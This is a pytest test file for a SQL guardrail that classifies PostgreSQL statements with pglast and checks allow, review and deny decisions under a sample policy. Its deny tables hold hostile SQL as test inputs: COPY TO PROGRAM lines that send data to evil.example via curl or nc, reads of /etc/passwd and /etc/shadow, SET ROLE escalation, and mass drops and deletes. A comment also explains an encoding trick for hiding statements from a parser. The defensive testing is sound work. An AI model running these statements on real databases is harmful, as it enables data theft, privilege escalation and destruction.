"""SQL guardrails: classification with pglast, and allow/review/deny under a representative policy.

The tables below are the contract: every bypass shape the issue lists (writes in
CTEs, EXPLAIN ANALYZE, PREPARE/EXECUTE, DO, dangerous functions, COPY PROGRAM,
SET ROLE, several statements in one message, comments, case, quoting, unicode
escapes, dollar quoting) must be denied, and ordinary work must pass.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pglast import ast

from policies.guardrails import (
    DEFAULT_RULE,
    OPAQUE_RULE,
    UNPARSABLE_RULE,
    decide_sql,
    evaluate,
    judge,
    matches,
    relation_matches,
)
from policies.model import Guardrail, StatementEffect
from policies.sql import KINDS, OPAQUE_KINDS, SqlError, Statement, classify, resolve_execute
from policies.sql_walk import node_kinds

ALLOW, REVIEW, DENY = StatementEffect.ALLOW, StatementEffect.REVIEW, StatementEffect.DENY

POLICY = (
    Guardrail(DENY, ("drop", "truncate", "alter_system", "copy_program", "copy_file", "set_role",
                     "set_session_authorization", "do", "dangerous_function"), name="p.guardrails[0]"),
    Guardrail(DENY, ("update", "delete"), without_where=True, name="p.guardrails[1]"),
    Guardrail(REVIEW, ("insert", "update", "delete", "merge"), ("customers", "billing.inv*"), name="p.guardrails[2]"),
    Guardrail(ALLOW, ("select",), name="p.guardrails[3]"),
)

# (SQL, the rule that must deny it)
DENIED = [
    ("DROP TABLE customers", "p.guardrails[0]"),
    ("drop table if exists orders cascade", "p.guardrails[0]"),
    ("TRUNCATE orders", "p.guardrails[0]"),
    ("truncate table orders, customers restart identity", "p.guardrails[0]"),
    ("ALTER SYSTEM SET log_statement = 'none'", "p.guardrails[0]"),
    ("ALTER SYSTEM RESET ALL", "p.guardrails[0]"),
    ("COPY orders TO PROGRAM 'curl -d @- http://evil.example'", "p.guardrails[0]"),
    ("COPY orders FROM PROGRAM 'cat /etc/passwd'", "p.guardrails[0]"),
    ("COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 9'", "p.guardrails[0]"),
    ("COPY orders TO '/tmp/orders.csv'", "p.guardrails[0]"),
    ("SET ROLE postgres", "p.guardrails[0]"),
    ("set local role admin", "p.guardrails[0]"),
    ("RESET ROLE", "p.guardrails[0]"),
    ('SET "role" = \'postgres\'', "p.guardrails[0]"),
    ("SET SESSION AUTHORIZATION postgres", "p.guardrails[0]"),
    ("SET SESSION AUTHORIZATION DEFAULT", "p.guardrails[0]"),
    ("DO $$ BEGIN DELETE FROM orders; END $$", "p.guardrails[0]"),
    ("DO $body$ BEGIN EXECUTE 'DROP TABLE orders'; END $body$ LANGUAGE plpgsql", "p.guardrails[0]"),
    ("do $a$ begin raise notice '$$ not the end $$'; end $a$", "p.guardrails[0]"),
    ("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", "p.guardrails[0]"),
    ("SELECT pg_terminate_backend(1234)", "p.guardrails[0]"),
    ("select pg_catalog.pg_cancel_backend(pid) from pg_stat_activity", "p.guardrails[0]"),
    ("SELECT pg_read_file('/etc/passwd')", "p.guardrails[0]"),
    ("SELECT * FROM pg_ls_dir('.')", "p.guardrails[0]"),
    ("SELECT lo_import('/etc/passwd')", "p.guardrails[0]"),
    ("SELECT lo_export(16401, '/tmp/x')", "p.guardrails[0]"),
    ("SELECT dblink_exec('host=db2', 'DROP TABLE orders')", "p.guardrails[0]"),
    ("SELECT * FROM dblink('host=db2', 'select 1') AS t(a int)", "p.guardrails[0]"),
    ("SELECT set_config('role', 'postgres', false)", "p.guardrails[0]"),
    ("SELECT pg_reload_conf()", "p.guardrails[0]"),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", "p.guardrails[0]"),
    ("SELECT * FROM orders WHERE id = 1 AND pg_terminate_backend(42)", "p.guardrails[0]"),
    ("INSERT INTO notes SELECT pg_read_binary_file('/etc/shadow')", "p.guardrails[0]"),
    ("CREATE TABLE loot AS SELECT pg_ls_dir('/')", "p.guardrails[0]"),
    ("SELECT \"PG_TERMINATE_BACKEND\"(1)", "p.guardrails[0]"),
    ("DELETE FROM orders", "p.guardrails[1]"),
    ("UPDATE orders SET total = 0", "p.guardrails[1]"),
    ("delete from orders where true", "p.guardrails[1]"),
    ("UPDATE orders SET total = 0 WHERE 1 = 1", "p.guardrails[1]"),
    ("dElEtE fRoM OrDeRs", "p.guardrails[1]"),
    ('DELETE FROM "orders"', "p.guardrails[1]"),
    ('DELETE FROM U&"\\006Frders"', "p.guardrails[1]"),
    ("DELETE FROM customers", "p.guardrails[1]"),  # deny (no WHERE) beats review (customers)
    ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "p.guardrails[1]"),
    ("WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM x", "p.guardrails[1]"),
    ("SELECT * FROM (SELECT 1) s, LATERAL (SELECT 2) l; WITH d AS (DELETE FROM orders) SELECT 1", "p.guardrails[1]"),
    ("EXPLAIN ANALYZE DELETE FROM orders", "p.guardrails[1]"),
    ("explain (analyze, format json) update orders set total = 0", "p.guardrails[1]"),
    ("PREPARE wipe AS DELETE FROM orders", "p.guardrails[1]"),
    ("prepare p(int) as update orders set total = $1", "p.guardrails[1]"),
    ("SELECT 1; DROP TABLE orders", "p.guardrails[0]"),
    ("select * from orders; delete from orders", "p.guardrails[1]"),
    ("SELECT /* ; DROP */ 1; /* harmless */ DrOp TaBlE orders", "p.guardrails[0]"),
    ("SELECT 1 -- ;\n; TRUNCATE orders", "p.guardrails[0]"),
    ("SELECT 'a;b'; SELECT $$;$$; SET ROLE postgres", "p.guardrails[0]"),
    ('DROP TABLE U&"cust\\006Fmers"', "p.guardrails[0]"),
    ("DROP SCHEMA public CASCADE", "p.guardrails[0]"),
    ("EXECUTE wipe", OPAQUE_RULE),
    ("CREATE TABLE t2 AS EXECUTE wipe", OPAQUE_RULE),
    ("EXPLAIN ANALYZE EXECUTE wipe", OPAQUE_RULE),
    ("SELECT 1; EXECUTE wipe(1)", OPAQUE_RULE),
    ("SELEC 1", UNPARSABLE_RULE),
    ("DROP TABLE", UNPARSABLE_RULE),
    ("DELETE FROM orders WHERE", UNPARSABLE_RULE),
    ("SELECT 1\x00; DROP TABLE orders", UNPARSABLE_RULE),
    ("SELECT '\ud800'", UNPARSABLE_RULE),
    ("DO $$ BEGIN END", UNPARSABLE_RULE),
]

# (SQL, the rule that must put it up for review)
REVIEWED = [
    ("INSERT INTO customers (email) VALUES ('a@example.com')", "p.guardrails[2]"),
    ("UPDATE customers SET email = 'x' WHERE id = 1", "p.guardrails[2]"),
    ("DELETE FROM billing.invoices WHERE id = 3", "p.guardrails[2]"),
    ("DELETE FROM invoices WHERE id = 3", "p.guardrails[2]"),  # search_path may resolve it to billing
    ("UPDATE public.customers SET name = 'x' WHERE id = 1", "p.guardrails[2]"),
    ('UPDATE "CUSTOMERS" SET name = \'x\' WHERE id = 1', "p.guardrails[2]"),
    ("WITH n AS (INSERT INTO customers (email) VALUES ('x') RETURNING id) SELECT * FROM n", "p.guardrails[2]"),
    ("INSERT INTO customers (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET email = 'x'", "p.guardrails[2]"),
    ("COPY customers FROM STDIN", "p.guardrails[2]"),
    ("MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN UPDATE SET email = s.email",
     "p.guardrails[2]"),
    ("SELECT 1; INSERT INTO customers DEFAULT VALUES", "p.guardrails[2]"),
]

ALLOWED = [
    "SELECT 1",
    "select * from customers where id = 1",
    "SELECT count(*) FROM orders",
    "SELECT c.email FROM customers c JOIN orders o ON o.customer_id = c.id",
    "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent",
    "EXPLAIN SELECT * FROM orders",
    "EXPLAIN DELETE FROM orders WHERE id = 1",
    "EXPLAIN ANALYZE SELECT * FROM orders",
    "UPDATE orders SET total = 0 WHERE id = 42",
    "DELETE FROM orders WHERE id = 42",
    "delete from orders using customers where orders.customer_id = customers.id and customers.email = 'x'",
    "UPDATE orders SET total = 1 FROM customers WHERE orders.customer_id = customers.id",
    "INSERT INTO orders (id, total) VALUES (1, 10)",
    "INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING",
    "INSERT INTO orders SELECT * FROM customers_archive",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT a",
    "SET search_path = public",
    "SET statement_timeout = '5s'",
    "SHOW search_path",
    "RESET statement_timeout",
    "SELECT pg_sleep(1)",
    "SELECT now(), current_user, version()",
    "SELECT 'DROP TABLE orders' AS text",
    "SELECT $$DELETE FROM orders$$",
    "SELECT $tag$; DROP TABLE orders; $tag$",
    "SELECT 1 -- DROP TABLE orders",
    "/* DROP TABLE orders */ SELECT 1",
    'SELECT * FROM "drop"',
    'SELECT "delete", "truncate" FROM t',
    "SELECT * FROM orders FOR UPDATE",
    "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1",
    "DEALLOCATE q",
    "VALUES (1), (2)",
    "TABLE orders",
    "SELECT * FROM orders ORDER BY id LIMIT 10 OFFSET 20",
    "COPY orders TO STDOUT",
    "COPY (SELECT id FROM orders) TO STDOUT WITH (FORMAT csv)",
    "select 1; select 2;",
    "LISTEN events",
    "NOTIFY events, 'x'",
    "DECLARE c CURSOR FOR SELECT * FROM orders",
    "FETCH 10 FROM c",
    "DELETE FROM orders WHERE CURRENT OF c",
    "CREATE TEMP TABLE scratch (id int)",
    "ANALYZE orders",
    "SELECT string_agg(email, ',') FROM customers",
    "SELECT * FROM pg_stat_activity",
    "SELECT U&'\\0041'",
    "select * from orders where note = 'it''s; drop table orders'",
    "SELECT E'\\'; DROP TABLE orders; --'",
    "",
    "  ;  ",
]


@pytest.mark.parametrize(("sql", "rule"), DENIED, ids=[s[:60] for s, _ in DENIED])
def test_denied(sql: str, rule: str) -> None:
    verdict = decide_sql(POLICY, sql)
    assert (verdict.effect, verdict.rule) == (DENY, rule), verdict.reason


@pytest.mark.parametrize(("sql", "rule"), REVIEWED, ids=[s[:60] for s, _ in REVIEWED])
def test_reviewed(sql: str, rule: str) -> None:
    verdict = decide_sql(POLICY, sql)
    assert (verdict.effect, verdict.rule) == (REVIEW, rule), verdict.reason
    assert "ask for review" in verdict.reason


@pytest.mark.parametrize("sql", ALLOWED, ids=[s[:60] for s in ALLOWED])
def test_allowed(sql: str) -> None:
    verdict = decide_sql(POLICY, sql)
    assert verdict.effect is ALLOW, verdict.reason


def test_the_tables_are_big_enough() -> None:
    assert len(DENIED) >= 40 and len(ALLOWED) >= 40


# -- classification ----------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kind", "kinds", "read_only"),
    [
        ("WITH x AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM x", "select", {"select", "delete"}, False),
        ("EXPLAIN DELETE FROM t", "explain", {"explain", "delete"}, True),
        ("EXPLAIN (ANALYZE off) DELETE FROM t", "explain", {"explain", "delete"}, True),
        ("EXPLAIN ANALYZE DELETE FROM t", "explain", {"explain", "explain_analyze", "delete"}, False),
        ("EXPLAIN (ANALYZE) SELECT 1", "explain", {"explain", "explain_analyze", "select"}, True),
        ("PREPARE p AS DELETE FROM t", "prepare", {"prepare", "delete"}, False),
        ("PREPARE p AS SELECT 1", "prepare", {"prepare", "select"}, True),
        ("EXECUTE p", "execute", {"execute"}, False),
        ("DO $$ BEGIN NULL; END $$", "do", {"do"}, False),
        ("SELECT 1 INTO t2", "select", {"select", "create"}, False),
        ("SELECT * FROM t FOR SHARE", "select", {"select", "lock"}, False),
        ("CREATE TABLE a AS SELECT * FROM b", "create", {"create", "select"}, False),
        ("CREATE MATERIALIZED VIEW m AS SELECT 1", "create", {"create", "select"}, False),
        ("COPY t TO STDOUT", "copy_to", {"copy_to", "select"}, True),
        ("COPY t FROM STDIN", "copy_from", {"copy_from", "insert"}, False),
        ("COPY t TO PROGRAM 'x'", "copy_to", {"copy_to", "select", "copy_program"}, False),
        ("SET ROLE x", "set_role", {"set_role"}, False),
        ("SET work_mem = '64MB'", "set", {"set"}, True),
        ("ALTER SYSTEM SET work_mem = '1GB'", "alter_system", {"alter_system", "alter", "set"}, False),
        ("SELECT nextval('s')", "select", {"select"}, False),
        ("SELECT pg_terminate_backend(1)", "select", {"select", "dangerous_function"}, False),
        ("EXPLAIN SELECT pg_terminate_backend(1)", "explain", {"explain", "select", "dangerous_function"}, True),
        ("GRANT SELECT ON t TO bob", "grant", {"grant"}, False),
        ("REVOKE admin FROM bob", "revoke", {"revoke"}, False),
        ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
         "merge", {"merge", "delete", "insert", "select"}, False),
        ("VACUUM t", "vacuum", {"vacuum"}, False),
        ("CALL proc(1)", "call", {"call"}, False),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END", "create",
         {"create", "delete", "select"}, False),
        ("BEGIN READ ONLY", "transaction", {"transaction"}, True),
    ],
)
def test_classify_kinds(sql: str, kind: str, kinds: set[str], read_only: bool) -> None:
    (statement,) = classify(sql)
    assert (statement.kind, set(statement.kinds), statement.read_only) == (kind, kinds, read_only)


def test_relations_are_attributed_to_what_acts_on_them() -> None:
    (s,) = classify("DELETE FROM shop.orders o USING customers c WHERE o.cid = c.id "
                    "AND c.id IN (SELECT id FROM banned)")
    assert s.targets == {("delete", "shop.orders"), ("select", "customers"), ("select", "banned")}
    assert s.tables == {"shop.orders", "customers", "banned"}
    assert not s.without_where
    (s,) = classify("DROP TABLE a.b, c")
    assert s.targets == {("drop", "a.b"), ("drop", "c")}
    (s,) = classify('SELECT * FROM "Mixed"."Case" JOIN lower_case USING (id) FOR UPDATE')
    assert ("lock", "Mixed.Case") in s.targets and ("lock", "lower_case") in s.targets
    (s,) = classify("DROP SCHEMA shop, crm CASCADE")
    assert s.targets == {("drop", "shop.*"), ("drop", "crm.*")}
    (s,) = classify("DROP DATABASE app")
    assert s.targets == {("drop", "*")}
    (s,) = classify("UPDATE t SET a = 1 WHERE true")
    assert s.unfiltered == {("update", "t")} and s.without_where


def test_several_statements_keep_their_own_text() -> None:
    statements = classify("SELECT 'é;' ; /* c */ DELETE FROM t WHERE id = 1 -- x\n;\n  SELECT 2")
    assert [s.text for s in statements] == ["SELECT 'é;'", "DELETE FROM t WHERE id = 1 -- x", "SELECT 2"]
    assert [s.kind for s in statements] == ["select", "delete", "select"]


def test_functions_are_named_lower_case_as_written() -> None:
    (s,) = classify("SELECT pg_catalog.PG_READ_FILE('x'), lower(name), \"Weird\"() FROM t")
    assert s.functions == {"pg_catalog.pg_read_file", "lower", "weird"}


@pytest.mark.parametrize("sql", ["SELEC 1", "SELECT (", "SELECT 1\x00", "'", "$$", "SELECT '\udcff'"])
def test_classify_raises_sql_error_on_garbage(sql: str) -> None:
    with pytest.raises(SqlError):
        classify(sql)


def test_deep_nesting_is_classified_without_recursion() -> None:
    (s,) = classify("SELECT " + "(" * 3000 + "1" + ")" * 3000)
    assert s.kinds == {"select"}


def test_every_statement_node_has_a_known_kind() -> None:
    for name in dir(ast):
        cls = getattr(ast, name)
        if not (isinstance(cls, type) and issubclass(cls, ast.Node) and name.endswith("Stmt")):
            continue
        kinds = node_kinds(cls())  # type: ignore[call-arg]  # every field defaults to None
        assert set(kinds) <= KINDS, name
        assert "other" not in kinds, f"{name} has no kind of its own"


# -- prepared statements -----------------------------------------------------


def test_execute_is_judged_by_what_was_prepared() -> None:
    prepare_select, prepare_delete = classify("PREPARE q(int) AS SELECT * FROM t WHERE id = $1; "
                                              "PREPARE wipe AS DELETE FROM orders")
    assert prepare_select.prepares == "q" and prepare_select.prepared is not None
    assert prepare_delete.prepared is not None and prepare_delete.prepared.kind == "delete"
    session = {"q": prepare_select.prepared, "wipe": prepare_delete.prepared}

    (execute_q,) = classify("EXECUTE q(1)")
    resolved = resolve_execute(execute_q, session)
    assert resolved.kinds == {"select"} and resolved.read_only
    assert evaluate(POLICY, [resolved]).effect is ALLOW

    (execute_wipe,) = classify("CREATE TABLE copy AS EXECUTE wipe")
    resolved = resolve_execute(execute_wipe, session)
    assert "execute" not in resolved.kinds and {"create", "delete"} <= resolved.kinds
    verdict = evaluate(POLICY, [resolved])
    assert (verdict.effect, verdict.rule) == (DENY, "p.guardrails[1]")

    (unknown,) = classify("EXECUTE never_prepared")
    assert resolve_execute(unknown, session) is unknown
    assert evaluate(POLICY, [unknown]).rule == OPAQUE_RULE


def test_deallocate_names_what_it_drops() -> None:
    one, everything, discard = classify("DEALLOCATE q; DEALLOCATE ALL; DISCARD ALL")
    assert one.deallocates == {"q"} and not one.deallocates_all
    assert everything.deallocates_all and discard.deallocates_all


# -- rules -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "relation", "expected"),
    [("orders", "orders", True), ("orders", "shop.orders", True), ("shop.orders", "shop.orders", True),
     ("shop.orders", "orders", True), ("shop.orders", "other.orders", False), ("shop.*", "shop.x", True),
     ("shop.*", "x", True), ("ord*", "orders", True), ("ORDERS", "Orders", True), ("orders", "orders2", False),
     ("shop.orders", "db.shop.orders", True), ("orders", "shop.*", True), ("shop.orders", "shop.*", True),
     ("sh*.orders", "shop.*", True), ("other.orders", "shop.*", False), ("db.shop.orders", "shop.*", True),
     ("anything.at_all", "*", True)],
)
def test_relation_matches(pattern: str, relation: str, expected: bool) -> None:
    assert relation_matches(pattern, relation) is expected


def test_dropping_a_schema_drops_its_tables() -> None:
    rule = (Guardrail(DENY, ("drop",), ("customers",), name="keep-customers"),)
    for sql in ("DROP SCHEMA public CASCADE", "DROP DATABASE app", "DROP OWNED BY app_user", "DROP TABLE customers"):
        assert decide_sql(rule, sql).rule == "keep-customers", sql
    assert decide_sql(rule, "DROP TABLE orders").rule == DEFAULT_RULE


def test_criteria_must_hold_for_the_same_action() -> None:
    rule = Guardrail(DENY, ("delete",), ("customers",), name="r")
    (reads_customers,) = classify("DELETE FROM orders WHERE cid IN (SELECT id FROM customers)")
    (deletes_customers,) = classify("DELETE FROM customers WHERE id = 1")
    assert not matches(rule, reads_customers) and matches(rule, deletes_customers)


def test_unmatched_statement_gets_the_default() -> None:
    (s,) = classify("CREATE TABLE t (id int)")
    assert judge(POLICY, s).rule == DEFAULT_RULE
    strict = judge(POLICY, s, default=REVIEW)
    assert (strict.effect, strict.rule) == (REVIEW, DEFAULT_RULE)


def test_opaque_kind_named_by_a_rule_follows_that_rule() -> None:
    (do,) = classify("DO $$ BEGIN NULL; END $$")
    assert judge((), do).effect is DENY and judge((), do).rule == OPAQUE_RULE
    review_do = (Guardrail(REVIEW, ("do",), name="r"),)
    assert (judge(review_do, do).effect, judge(review_do, do).rule) == (REVIEW, "r")
    allow_select = (Guardrail(ALLOW, ("select",), name="s"),)
    (call,) = classify("SELECT pg_terminate_backend(1)")
    assert judge(allow_select, call).effect is DENY  # allowing select does not allow the dangerous call
    assert judge(allow_select, call, opaque=REVIEW).effect is REVIEW


def test_reasons_name_the_rule_and_what_to_do() -> None:
    verdict = decide_sql(POLICY, "DROP TABLE customers")
    assert verdict.reason == ("DROP is not allowed (rule p.guardrails[0]); ask an administrator if you need it")
    verdict = decide_sql(POLICY, "SELECT 1; DELETE FROM orders")
    assert verdict.reason == ("statement 2 of 2: DELETE on orders without a WHERE clause is not allowed "
                              "(rule p.guardrails[1]); add a WHERE clause")
    assert verdict.statement is not None and verdict.statement.text == "DELETE FROM orders"
    verdict = decide_sql(POLICY, "SELECT pg_read_file('/etc/passwd')")
    assert "pg_read_file()" in verdict.reason
    verdict = decide_sql(POLICY, "DELETE FROM")
    assert verdict.rule == UNPARSABLE_RULE and "could not be parsed" in verdict.reason


# -- properties ------------------------------------------------------------------

TOKENS = ["SELECT", "DELETE", "FROM", "WHERE", "t", "(", ")", ";", "'", "$$", "--", "/*", "*/", "1", ",", "DO",
          "EXPLAIN", "ANALYZE", "WITH", "AS", "\n", "\"", "U&", "\\", "INSERT", "INTO", "VALUES", "\x00", "é"]


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.lists(st.sampled_from(TOKENS), max_size=30).map(" ".join)))
def test_classify_raises_only_sql_error(text: str) -> None:
    try:
        statements = classify(text)
    except SqlError:
        return
    for s in statements:
        assert s.kinds <= KINDS


def _classified(sql: str) -> list[Statement]:
    try:
        return classify(sql)
    except SqlError:
        return []


POOL = [s for sql in [*(d for d, _ in DENIED), *(r for r, _ in REVIEWED), *ALLOWED] for s in _classified(sql)]
SOME_KINDS = sorted(KINDS)
guardrails = st.builds(
    Guardrail,
    effect=st.sampled_from(list(StatementEffect)),
    statements=st.lists(st.sampled_from(SOME_KINDS), max_size=3, unique=True).map(tuple),
    tables=st.lists(st.sampled_from(["orders", "customers", "billing.*", "t*", "x"]), max_size=2).map(tuple),
    without_where=st.booleans(),
    name=st.just("g"),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(guardrails, max_size=5), guardrails, st.lists(st.sampled_from(POOL), min_size=1, max_size=3))
def test_adding_a_deny_guardrail_never_loosens(existing: list[Guardrail], extra: Guardrail,
                                                statements: list[Statement]) -> None:
    deny = Guardrail(DENY, extra.statements, extra.tables, extra.without_where, name="added")
    before = evaluate(existing, statements)
    for position in (0, len(existing)):
        after = evaluate([*existing[:position], deny, *existing[position:]], statements)
        assert after.severity >= before.severity


def test_opaque_kinds_are_kinds() -> None:
    assert OPAQUE_KINDS <= KINDS


@pytest.mark.parametrize(("sql", "setting"), [
    *((sql, "standard_conforming_strings") for sql in (
        "SET standard_conforming_strings = off", "set local standard_conforming_strings to off",
        "SET standard_conforming_strings = 0", "SET standard_conforming_strings = 'false'",
        "SELECT 1; SET standard_conforming_strings = off")),
    *((sql, "client_encoding") for sql in (
        "SET client_encoding = 'SJIS'", "SET NAMES 'sjis'", "set local client_encoding to 'LATIN1'",
        "SET client_encoding = 6", "SELECT 1; SET client_encoding = 'BIG5'")),
])
def test_how_the_server_reads_sql_cannot_be_changed(sql: str, setting: str) -> None:
    # Either change lets the server end a string where this parser sees none: with standard strings off,
    # 'a\' , $$ ' does; in SJIS, 0x95 0x5C is one character, so "E'\x95\\'; DELETE …" hides the DELETE.
    # Fail closed, whatever the policy.
    with pytest.raises(SqlError, match=f"{setting} may not be changed"):
        classify(sql)
    assert decide_sql((*POLICY, Guardrail(ALLOW, ("set", "other"), name="lenient")), sql).effect is DENY


@pytest.mark.parametrize("sql", [
    "SET client_encoding = 'UTF8'", "SET NAMES 'utf-8'", "SET client_encoding TO 'Unicode'",
    "SET client_encoding TO DEFAULT", "RESET client_encoding",
    # Rails and Sequel send this on connect; DEFAULT and RESET return to the "on" the proxy pins at login.
    "SET standard_conforming_strings = on", "SET standard_conforming_strings TO true",
    "SET SESSION standard_conforming_strings TO DEFAULT", "RESET standard_conforming_strings",
])
def test_the_string_syntax_may_be_set_to_what_the_proxy_pins(sql: str) -> None:
    assert decide_sql((*POLICY, Guardrail(ALLOW, ("set", "reset"), name="sessions")), sql).effect is ALLOW


@pytest.mark.parametrize("sql", [
    "SELECT set_config('client_encoding', 'SJIS', false)",
    "SELECT pg_catalog.set_config('standard_conforming_strings', 'off', true)",
    "SELECT set_config(name, 'x', false) FROM settings",  # a setting named at run time could be either
    "PREPARE p AS SELECT set_config('client_encoding', 'SJIS', false)",  # run later by EXECUTE p
    # pg_settings' update rule calls set_config(): every write to it is one.
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "UPDATE pg_catalog.pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'",
    "WITH s AS (UPDATE pg_settings SET setting = 'x' WHERE name = 'work_mem' RETURNING 1) SELECT * FROM s",
    "PREPARE q AS UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
])
def test_set_config_cannot_change_how_sql_reads_even_where_dangerous_functions_are_allowed(sql: str) -> None:
    with pytest.raises(SqlError, match="set_config"):
        classify(sql)
    lenient = (Guardrail(ALLOW, ("select", "update", "prepare", "dangerous_function"), name="lenient"),)
    assert decide_sql(lenient, sql).effect is DENY
    assert decide_sql(lenient, "SELECT set_config('app.user', 'ada', true)").effect is ALLOW


@pytest.mark.parametrize("function", ["table_to_xml", "schema_to_xml", "database_to_xml", "cursor_to_xmlschema"])
def test_xml_exports_of_whole_relations_are_dangerous(function: str) -> None:
    # They read the relation named in a string, which table rules cannot see.
    [statement] = classify(f"SELECT {function}('customers', true, false, '')")
    assert "dangerous_function" in statement.kinds
